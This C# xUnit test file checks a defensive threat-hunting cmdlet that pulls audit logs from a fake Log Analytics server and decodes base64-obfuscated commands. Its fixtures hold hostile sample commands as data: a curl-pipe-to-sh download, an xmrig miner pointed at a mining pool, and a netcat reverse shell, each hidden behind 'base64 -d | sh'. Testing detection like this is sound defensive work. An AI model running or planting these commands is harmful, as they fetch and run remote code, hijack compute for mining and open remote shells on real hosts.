using System;
using System.Collections.Generic;
using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using System.Text;
using B64Hunt.Commands;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.LogAnalytics
{
    /// <summary>
    /// Get-B64Command -WorkspaceId end to end: the cmdlet against a real HTTP server on 127.0.0.1 that answers as the
    /// Log Analytics query API does, through the split-and-retry client, the AUOMS/auditd parsers and the decoder.
    /// </summary>
    public class GetB64CommandWorkspaceTests
    {
        private const string Token = "eyJ0eXAiOiJKV1QiLCJhbGciOi.workspace-test-token.c2lnbmF0dXJl";
        private static readonly Guid Workspace = Guid.Parse("2f1c4a2e-9b0d-4c1e-8f7a-3d5b6c7e8f90");
        private static readonly DateTime Start = new DateTime(2026, 10, 1, 0, 0, 0, DateTimeKind.Utc);
        private static readonly (string, string)[] SyslogColumns = { ("TimeGenerated", "datetime"), ("Computer", "string"), ("SyslogMessage", "string") };

        private static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

        private static PowerShell CreateShell()
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64Command", typeof(GetB64CommandCommand), null));
            return PowerShell.Create(iss);
        }

        private static PowerShell Hunt(FakeLogAnalyticsServer server, DateTime end, string table = "Auoms", bool summarize = false)
        {
            var ps = CreateShell();
            ps.AddCommand("Get-B64Command").AddParameter("WorkspaceId", Workspace).AddParameter("Endpoint", server.Endpoint)
                .AddParameter("AccessToken", Token).AddParameter("Start", Start).AddParameter("End", end).AddParameter("Table", table);
            if (summarize) ps.AddParameter("Summarize", true);
            return ps;
        }

        [Fact]
        public void AuomsRowsAreDecodedAndACutResultIsSplitWithNoEventLostOrDuplicated()
        {
            // 48 AUOMS rows, one every 20 minutes over 16 h, each hiding its own command; the service answers at most
            // 10 rows with the 64 MB partial error, so the client must halve the window until every piece fits.
            var rows = Enumerable.Range(0, 48).Select(i => (
                Time: Start.AddMinutes(20 * i),
                Computer: "web-0" + (i % 4),
                Hidden: "curl -s http://203.0.113." + i + "/a.sh | sh")).ToList();
            using var server = new FakeLogAnalyticsServer(request =>
            {
                Assert.Equal("Bearer " + Token, request.Authorization);
                var (s, e) = request.KqlWindow;
                var piece = rows.Where(r => r.Time >= s && r.Time < e).ToList();
                return new FakeResponse
                {
                    Body = FakeLogAnalyticsServer.Table(SyslogColumns,
                        piece.Take(10).Select(r => new object?[]
                        {
                            r.Time, r.Computer,
                            "type=AUOMS_EXECVE audit(1759276800.000:" + r.Time.Ticks % 100000 + "): user=root cmdline=\"bash -c \"echo " + B64(r.Hidden) + " | base64 -d | sh\"\" redactors= containerid=",
                        }),
                        piece.Count > 10 ? FakeLogAnalyticsServer.SizeLimitPartialError : null),
                };
            });

            using var ps = Hunt(server, Start.AddHours(16));
            var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();

            Assert.Empty(ps.Streams.Error);
            Assert.Equal(rows.Select(r => r.Hidden).OrderBy(x => x), events.Select(e => e.DecodedCommand).OrderBy(x => x));
            Assert.Equal(events.Count, events.Select(e => e.DecodedCommand).Distinct().Count());
            Assert.True(server.Requests.Count > 1, "the cut result was split");
            foreach (var e in events)
            {
                var row = rows.Single(r => r.Hidden == e.DecodedCommand);
                Assert.Equal(row.Computer, e.Computer);
                Assert.Equal("root", e.Account);
                Assert.StartsWith("workspace:" + Workspace, e.Source);
                Assert.Equal(new[] { "base64" }, e.DecodeChain);
            }
        }

        [Fact]
        public void SummarizedRowsCarryTheirCountsHostsAndTimes()
        {
            var first = Start.AddHours(2);
            var last = Start.AddDays(3);
            var hidden = "xmrig -o stratum+tcp://198.51.100.3:3333";
            using var server = new FakeLogAnalyticsServer(request =>
            {
                Assert.Contains("summarize EventCount = count()", request.Query);
                return new FakeResponse
                {
                    Body = FakeLogAnalyticsServer.Table(
                        new[] { ("CommandLine", "string"), ("EventCount", "long"), ("TotalHosts", "long"), ("Hostnames", "dynamic"), ("FirstSeen", "datetime"), ("LastSeen", "datetime") },
                        new[] { new object?[] { "echo " + B64(hidden) + " | base64 -d | sh", 42L, 2L, "[\"db-02\",\"web-03\"]", first, last } }),
                };
            });

            using var ps = Hunt(server, Start.AddDays(7), "DeviceProcessEvents", summarize: true);
            var e = (CommandEvent)Assert.Single(ps.Invoke()).BaseObject;

            Assert.Equal(hidden, e.DecodedCommand);
            Assert.Equal(42, e.EventCount);
            Assert.Equal(new[] { "db-02", "web-03" }, e.Hostnames.OrderBy(h => h));
            Assert.Equal(first, e.FirstSeen);
            Assert.Equal(last, e.LastSeen);
        }

        [Fact]
        public void AuditdRecordsSpreadOverRowsAreReassembledAndTheirHexArgumentsDecoded()
        {
            // bash -c "<cmd>": the kernel hex-encodes the argument with spaces; SYSCALL and EXECVE arrive as separate rows.
            string hidden = "nc -e /bin/sh 185.220.101.47 9001";
            string argument = "echo " + B64(hidden) + " | base64 -d | sh";
            string hex = BitConverter.ToString(Encoding.ASCII.GetBytes(argument)).Replace("-", string.Empty);
            var time = Start.AddHours(1);
            using var server = new FakeLogAnalyticsServer(_ => new FakeResponse
            {
                Body = FakeLogAnalyticsServer.Table(SyslogColumns, new[]
                {
                    new object?[] { time, "db-02", "type=SYSCALL msg=audit(1759280400.123:4242): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=77 auid=0 uid=0 gid=0 euid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)" },
                    new object?[] { time, "db-02", "type=EXECVE msg=audit(1759280400.123:4242): argc=3 a0=\"bash\" a1=\"-c\" a2=" + hex },
                    new object?[] { time, "db-02", "type=EOE msg=audit(1759280400.123:4242):" },
                }),
            });

            using var ps = Hunt(server, Start.AddDays(1), "Auditd");
            var e = (CommandEvent)Assert.Single(ps.Invoke()).BaseObject;

            Assert.Empty(ps.Streams.Error);
            Assert.Equal(hidden, e.DecodedCommand);
            Assert.Equal("bash -c " + argument, e.CommandLine);
            Assert.Equal("db-02", e.Computer);
        }

        [Fact]
        public void AForbiddenWorkspaceNamesTheRoleAndNeverTheToken()
        {
            using var server = new FakeLogAnalyticsServer(_ => FakeLogAnalyticsServer.Error(403, "InsufficientAccessError",
                "The provided credentials have insufficient access to perform the requested operation"));

            using var ps = Hunt(server, Start.AddDays(1));
            ps.AddParameter("Verbose", true);
            var output = ps.Invoke();

            Assert.Empty(output);
            var error = Assert.Single(ps.Streams.Error);
            Assert.Equal("LogAnalyticsForbidden,B64Hunt.Commands.GetB64CommandCommand", error.FullyQualifiedErrorId);
            Assert.Contains("Log Analytics Reader", error.ToString());
            var everything = string.Join("\n", ps.Streams.Error.Select(r => r + " " + r.Exception + " " + r.TargetObject)
                .Concat(ps.Streams.Verbose.Select(v => v.Message)).Concat(ps.Streams.Warning.Select(w => w.Message)));
            Assert.DoesNotContain("workspace-test-token", everything);
        }
    }
}
